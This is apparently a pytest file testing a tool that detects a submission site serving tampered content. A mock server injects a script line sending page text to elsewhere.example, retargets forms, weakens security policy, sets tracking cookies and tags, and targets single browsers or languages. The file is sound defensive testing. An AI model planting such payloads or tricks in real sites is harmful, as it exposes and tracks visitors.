"""The check from outside, against servers that lie: each planted tampering is found, and honesty is clean."""

from __future__ import annotations

import json
import secrets
import ssl
import threading
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from ipaddress import IPv4Address
from itertools import count
from pathlib import Path

import pytest
from click.testing import CliRunner
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import NameOID
from flask import Flask
from werkzeug.wrappers import Request, Response

from keys.calendar import today
from keys.errors import KeysError
from submit.app import create_app
from submit.cli import main
from submit.verify import state
from submit.verify.check import Check, Report
from submit.verify.fetch import Fetcher, Route
from submit.verify.findings import Verdict
from tests.submit.liar import Alter, Liar
from tests.submit.world import World


@pytest.fixture(scope="module")
def site(new_world: World, tmp_path_factory: pytest.TempPathFactory) -> World:
    """A site with its first board; nobody writes to it."""
    made = new_world.copy(tmp_path_factory.mktemp("verified"))
    made.publish()
    return made


@pytest.fixture(scope="module")
def app(site: World) -> Iterator[Flask]:
    made = create_app(site.server)
    yield made
    made.extensions["vault"].close()


@pytest.fixture(scope="module")
def serving(app: Flask) -> Iterator[Liar]:
    with Liar(app).serving() as started:
        yield started


@pytest.fixture
def liar(serving: Liar) -> Iterator[Liar]:
    """The site, honest again after each test."""
    yield serving
    serving.alter = lambda request, answer: answer


@pytest.fixture
def root(site: World) -> str:
    return site.manifest.root.fingerprint.hex()


def check(liar: Liar, root: str, seen: state.Seen | None = None) -> Report:
    fetcher = Fetcher(Route(liar.address))
    report = Report(address=liar.address, day=today())
    try:
        return Check(fetcher, report, fingerprint=bytes.fromhex(root), seen=seen).run()
    finally:
        fetcher.close()


def found(liar: Liar, root: str, alter: Alter, seen: state.Seen | None = None) -> set[tuple[str, str]]:
    """Let the site lie so, and return what the check finds bad: (check, subject)."""
    liar.alter = alter
    report = check(liar, root, seen)
    assert report.findings.verdict is Verdict.BAD
    return {(each.check, each.subject) for each, _ in report.findings if each.verdict is Verdict.BAD}


def changed(answer: Response, body: bytes) -> Response:
    """The same answer with another body, in plain: a careful liar sends the right length."""
    answer.headers.pop("Content-Encoding", None)
    answer.set_data(body)
    return answer


def with_code(answer: Response) -> Response:
    return changed(answer, b"fetch('//elsewhere.example/'+document.body.innerText);")


# --- an honest site ---------------------------------------------------------


def test_an_honest_site_is_clean(liar: Liar, root: str) -> None:
    report = check(liar, root)
    assert [finding for finding, _ in report.findings] == []
    assert report.visits == 30
    assert report.requests > 400
    assert report.findings.looked["bytes"] > 300


# --- the planted tamperings, one test each ----------------------------------


def test_tampering_01_script_altered_for_one_visitor_in_five(liar: Liar, root: str) -> None:
    number, guard = count(), threading.Lock()

    def alter(request: Request, answer: Response) -> Response:
        if request.path != "/static/amana-worker.js":
            return answer
        with guard:
            return with_code(answer) if next(number) % 5 == 4 else answer

    assert found(liar, root, alter) == {("bytes", "/static/amana-worker.js")}


def test_tampering_02_page_altered_for_one_language(liar: Liar, root: str) -> None:
    def alter(request: Request, answer: Response) -> Response:
        return changed(answer, answer.get_data() + b" ") if request.path == "/zgh/" else answer

    assert ("bytes", "/zgh/") in found(liar, root, alter)


def test_tampering_03_script_altered_for_one_browser(liar: Liar, root: str) -> None:
    def alter(request: Request, answer: Response) -> Response:
        chosen = "iPhone" in str(request.user_agent) and request.path == "/static/amana.js"
        return with_code(answer) if chosen else answer

    assert found(liar, root, alter) == {("bytes", "/static/amana.js")}


def test_tampering_04_script_altered_for_who_asks_for_one_language(liar: Liar, root: str) -> None:
    """The address is the same for all: only Accept-Language tells them apart."""

    def alter(request: Request, answer: Response) -> Response:
        chosen = str(request.accept_languages).startswith("ar") and request.path == "/static/amana.js"
        return with_code(answer) if chosen else answer

    assert found(liar, root, alter) == {("bytes", "/static/amana.js")}


def test_tampering_05_form_without_scripts_posts_elsewhere(liar: Liar, root: str) -> None:
    """These forms carry a token, so their bytes change every minute; the rest of them does not."""

    def alter(request: Request, answer: Response) -> Response:
        if request.path != "/fr/plain/report":
            return answer
        page = answer.get_data()
        return changed(answer, page.replace(b"<form", b'<form action="https://elsewhere.example/"', 1))

    assert found(liar, root, alter) == {("bytes", "/fr/plain/report")}


def test_tampering_06_policy_weakened(liar: Liar, root: str) -> None:
    def alter(request: Request, answer: Response) -> Response:
        if request.path == "/ar/":
            policy = answer.headers["Content-Security-Policy"]
            answer.headers["Content-Security-Policy"] = policy.replace("connect-src 'self'", "connect-src *")
        return answer

    assert ("policy", "/ar/") in found(liar, root, alter)


def test_tampering_07_policy_left_out_for_one_browser(liar: Liar, root: str) -> None:
    def alter(request: Request, answer: Response) -> Response:
        if request.path == "/en/replies" and "Android 7" in str(request.user_agent):
            del answer.headers["Content-Security-Policy"]
        return answer

    assert ("policy", "/en/replies") in found(liar, root, alter)


def test_tampering_08_cookie_set(liar: Liar, root: str) -> None:
    def alter(request: Request, answer: Response) -> Response:
        if request.path == "/en/":
            answer.set_cookie("seen", secrets.token_hex(8))
        return answer

    assert ("cookie", "/en/") in found(liar, root, alter)


def test_tampering_09_tag_by_which_a_browser_is_known_again(liar: Liar, root: str) -> None:
    def alter(request: Request, answer: Response) -> Response:
        if request.path == "/static/pages-es.css":
            answer.headers["ETag"] = f'"{secrets.token_hex(8)}"'
        return answer

    assert ("tag", "/static/pages-es.css") in found(liar, root, alter)


def test_tampering_10_redirect_elsewhere(liar: Liar, root: str) -> None:
    def alter(request: Request, answer: Response) -> Response:
        if request.path == "/" and "Windows" in str(request.user_agent):
            answer.headers["Location"] = "https://elsewhere.example/fr/"
        return answer

    assert ("redirect", "/") in found(liar, root, alter)


def test_tampering_11_challenge_of_its_own_for_every_visitor(liar: Liar, root: str) -> None:
    """A challenge given to one person only would mark that person's envelope."""

    def alter(request: Request, answer: Response) -> Response:
        if request.path != "/challenge":
            return answer
        value = json.loads(answer.get_data())
        return changed(answer, json.dumps(value | {"challenge": secrets.token_hex(16)}).encode())

    hits = found(liar, root, alter)
    assert {check for check, _ in hits} == {"same"}
    assert all(subject.startswith("/challenge") for _, subject in hits)


def test_tampering_12_intake_key_swapped(liar: Liar, root: str, site: World) -> None:
    """The server's own key, for envelopes that it can open."""
    mine = site.manifest.intake_key("desk", today())
    other = (site.server / "keys" / site.manifest.identity[1]).read_bytes()

    def alter(request: Request, answer: Response) -> Response:
        return changed(answer, other) if request.path == f"/keys/{mine}" else answer

    assert found(liar, root, alter) == {("keys", f"/keys/{mine}")}


def test_tampering_13_whole_site_signed_by_other_root_keys(
    liar: Liar, root: str, site: World, tmp_path: Path
) -> None:
    """All of it is in order, and all of it is the attacker's: only the poster's fingerprint tells."""
    forged = World.create(tmp_path)
    forged.publish()
    copy = create_app(forged.server)
    try:
        with Liar(copy).serving() as other:
            assert check(other, forged.manifest.root.fingerprint.hex()).findings.verdict is Verdict.OK
            assert ("log", "/log (root)") in found(other, root, other.alter)
    finally:
        copy.extensions["vault"].close()


def test_tampering_14_manifest_altered_for_one_visitor(liar: Liar, root: str) -> None:
    once = iter([True])

    def alter(request: Request, answer: Response) -> Response:
        if request.path == "/manifest" and next(once, False):
            return changed(answer, answer.get_data().replace(b'"serial":1', b'"serial":2'))
        return answer

    assert {check for check, _ in found(liar, root, alter)} == {"manifest"}


def test_tampering_15_board_altered(liar: Liar, root: str) -> None:
    def alter(request: Request, answer: Response) -> Response:
        if request.path.startswith("/board/1/bucket/"):
            body = bytearray(answer.get_data())
            body[100] ^= 1
            return changed(answer, bytes(body))
        return answer

    assert found(liar, root, alter) == {("board", "/board/1/bucket/0")}


def test_tampering_16_board_of_the_servers_own_making(
    liar: Liar, root: str, site: World, tmp_path: Path
) -> None:
    forged = World.create(tmp_path)
    forged.publish()
    header = next((forged.server / "board").glob("*/header"), None) or next(forged.server.rglob("header"))

    def alter(request: Request, answer: Response) -> Response:
        return changed(answer, header.read_bytes()) if request.path == "/board/header" else answer

    assert {check for check, _ in found(liar, root, alter)} == {"board"}


def test_tampering_17_older_manifest_and_board_brought_back(liar: Liar, root: str) -> None:
    seen = check(liar, root).seen
    assert seen is not None
    assert seen.board is not None
    later = replace(
        seen,
        manifest=replace(seen.manifest, serial=2),
        board=replace(seen.board, serial=7),
    )
    hits = found(liar, root, lambda request, answer: answer, later)
    assert {("rollback", "/manifest"), ("rollback", "/board/header")} <= hits


def test_tampering_18_another_history_than_was_shown_before(liar: Liar, root: str) -> None:
    """Two lists of manifests, one for the last visitor and one for this: no proof joins them."""
    seen = check(liar, root).seen
    assert seen is not None
    other = replace(seen, log=replace(seen.log, root=bytes(32)))
    assert ("log", "/log (log)") in found(liar, root, lambda request, answer: answer, other)


def test_tampering_19_missing_page_that_names_its_visitor(liar: Liar, root: str) -> None:
    def alter(request: Request, answer: Response) -> Response:
        if answer.status_code == 404 and request.path.startswith("/en/"):
            return changed(answer, answer.get_data() + secrets.token_hex(4).encode())
        return answer

    assert ("same", "/en/… (missing page)") in found(liar, root, alter)


def test_tampering_20_form_token_of_its_own_for_every_visitor(liar: Liar, root: str) -> None:
    def alter(request: Request, answer: Response) -> Response:
        if request.path != "/ar/plain/report":
            return answer
        head, mark, rest = answer.get_data().partition(b'name="token" value="')
        minute = rest.partition(b"-")[0]
        return changed(
            answer, head + mark + minute + b"-" + secrets.token_hex(16).encode() + rest[rest.index(b'"') :]
        )

    assert {check for check, _ in found(liar, root, alter)} == {"same"}


def test_tampering_21_certificate_of_somebody_between(app: Flask, root: str, tmp_path: Path) -> None:
    """Whoever stands between shows a certificate of their own making; with the right one all is well."""
    file = certificate(tmp_path)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(file)
    with Liar(app).serving(context) as secured:
        code, said = run(secured.address, "--fingerprint", root, "--json")
        assert code == 1
        assert [each["check"] for each in json.loads(said)["findings"]] == ["tls"]
        code, said = run(secured.address, "--fingerprint", root, "--json", "--ca", str(file))
        assert (code, json.loads(said)["verdict"]) == (0, "ok")
        assert json.loads(said)["certificate"]["version"] == "TLSv1.3"


def certificate(folder: Path) -> Path:
    """A certificate for 127.0.0.1 and its key, signed by itself."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    now = datetime.now(UTC)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=90))
        .add_extension(
            x509.SubjectAlternativeName([x509.IPAddress(IPv4Address("127.0.0.1"))]), critical=False
        )
        .sign(key, SHA256())
    )
    secret = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    (folder / "site.pem").write_bytes(made.public_bytes(Encoding.PEM) + secret)
    return folder / "site.pem"


# --- what is no attack ------------------------------------------------------


def test_late_board_and_keys_that_run_out_are_to_be_looked_at(liar: Liar, root: str) -> None:
    report = Report(address=liar.address, day=today() + timedelta(weeks=12))
    fetcher = Fetcher(Route(liar.address))
    Check(fetcher, report, fingerprint=bytes.fromhex(root)).run()
    fetcher.close()
    assert report.findings.verdict is Verdict.LOOK
    assert {each.check for each, _ in report.findings} == {"late", "epoch"}


def test_header_of_a_proxy_is_shown_and_is_no_alarm(liar: Liar, root: str) -> None:
    def alter(request: Request, answer: Response) -> Response:
        answer.headers["X-Cache"] = "hit\x1b[2J"
        return answer

    liar.alter = alter
    report = check(liar, root)
    assert report.findings.verdict is Verdict.LOOK
    assert all("\x1b" not in finding.detail for finding, _ in report.findings)


# --- the command ------------------------------------------------------------


def run(*arguments: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["verify", *arguments])
    return result.exit_code, result.output


def test_command_says_so_and_exits_0(liar: Liar, root: str, tmp_path: Path) -> None:
    spaced = " ".join(root[at : at + 4] for at in range(0, 64, 4))
    memory, metrics = tmp_path / "seen.json", tmp_path / "amana.prom"
    code, said = run(liar.address, "--fingerprint", spaced, "--state", str(memory), "--metrics", str(metrics))
    assert code == 0
    assert "All is as the root keys signed it." in said
    assert spaced in said
    assert state.load(memory) is not None
    lines = metrics.read_text().splitlines()
    assert f'amana_verify_ok{{site="{liar.address}"}} 1' in lines
    assert f'amana_verify_manifest_serial{{site="{liar.address}"}} 1' in lines
    assert run(liar.address, "--fingerprint", root, "--state", str(memory), "--quiet") == (0, "")


def test_command_exits_1_and_prints_what_was_found_as_json(liar: Liar, root: str, tmp_path: Path) -> None:
    memory = tmp_path / "seen.json"

    def alter(request: Request, answer: Response) -> Response:
        return with_code(answer) if request.path == "/static/amana.js" else answer

    liar.alter = alter
    code, said = run(liar.address, "--fingerprint", root, "--json", "--state", str(memory))
    assert code == 1
    value = json.loads(said)
    assert value["verdict"] == "bad"
    assert [(each["check"], each["subject"]) for each in value["findings"]] == [
        ("bytes", "/static/amana.js")
    ] * len(value["findings"])
    assert sum(each["times"] for each in value["findings"]) == 30
    assert not memory.exists(), "nothing is learnt from a site that lies"


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        (["http://127.0.0.1:9"], "did not answer"),
        (["report.example.org"], "Give the site's address alone"),
        (["https://report.example.org/fr/"], "Give the site's address alone"),
        (["http://127.0.0.1:9", "--fingerprint", "12"], "written in hex, 64 characters"),
        (["http://127.0.0.1:9", "--fingerprint", "zz"], "written in hex, 64 characters"),
        (["http://127.0.0.1:9", "--socks", "tor"], "Give the proxy as HOST:PORT"),
    ],
)
def test_command_exits_2_when_it_could_not_check(arguments: list[str], sentence: str) -> None:
    code, said = run(*arguments)
    assert code == 2
    assert sentence in said


def test_damaged_state_is_named(liar: Liar, root: str, tmp_path: Path) -> None:
    (tmp_path / "seen").write_text("{")
    code, said = run(liar.address, "--fingerprint", root, "--state", str(tmp_path / "seen"))
    assert code == 2
    assert "is damaged" in said


def test_errors_of_keys_are_findings_and_not_failures(liar: Liar, root: str) -> None:
    """Whatever a hostile server sends as its manifest: a finding, exit 1."""
    for body in (b"", b"AMANAM\0\1", secrets.token_bytes(4096)):
        liar.alter = lambda request, answer, body=body: (
            changed(answer, body) if request.path == "/manifest" else answer
        )
        report = check(liar, root)
        assert report.findings.verdict is Verdict.BAD
        assert report.manifest is None
    assert issubclass(KeysError, Exception)
